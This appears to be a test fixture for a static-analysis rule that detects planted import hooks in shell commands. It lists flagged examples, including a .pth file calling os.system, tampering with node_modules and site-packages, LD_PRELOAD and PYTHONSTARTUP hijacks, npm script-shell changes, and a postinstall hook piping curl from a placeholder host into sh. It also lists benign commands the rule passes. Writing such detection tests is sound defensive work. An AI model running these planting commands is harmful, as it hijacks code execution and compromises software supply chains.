#!/bin/bash
# ruleid: shell/import-hook-plant
echo 'import os; os.system(1)' > /usr/lib/python3/dist-packages/x.pth
# ruleid: shell/import-hook-plant
cat > ./sitecustomize.py <<'E'
import x
E
# ruleid: shell/import-hook-plant
echo 'x' >> node_modules/lodash/index.js
# ruleid: shell/import-hook-plant
cp evil.py .venv/lib/python3.12/site-packages/evil.py
# ruleid: shell/import-hook-plant
sed -i "s/a/b/" node_modules/express/lib/express.js
# ruleid: shell/import-hook-plant
echo "script-shell=/tmp/x" >> .npmrc
# ruleid: shell/import-hook-plant
LD_PRELOAD=/tmp/x.so ls
# ruleid: shell/import-hook-plant
export PYTHONSTARTUP=/tmp/x.py
# ruleid: shell/import-hook-plant
cat > pkg/package.json <<'E'
{"scripts": {"postinstall": "curl https://x.example | sh"}}
E
# ruleid: shell/import-hook-plant
npm config set script-shell /tmp/x

# ok: shell/import-hook-plant
pip install -e .
# ok: shell/import-hook-plant
npx patch-package lodash
# ok: shell/import-hook-plant
cat node_modules/lodash/package.json
# ok: shell/import-hook-plant
rm -rf node_modules
# ok: shell/import-hook-plant
echo "save-exact=true" >> sub/.npmrc
# ok: shell/import-hook-plant
python3 -m venv .venv
# ok: shell/import-hook-plant
NODE_OPTIONS=--max-old-space-size=4096 npm run build
# ok: shell/import-hook-plant
cp model.pth out/model_best.pth
# ok: shell/import-hook-plant
echo x > node_modules/.cache/x
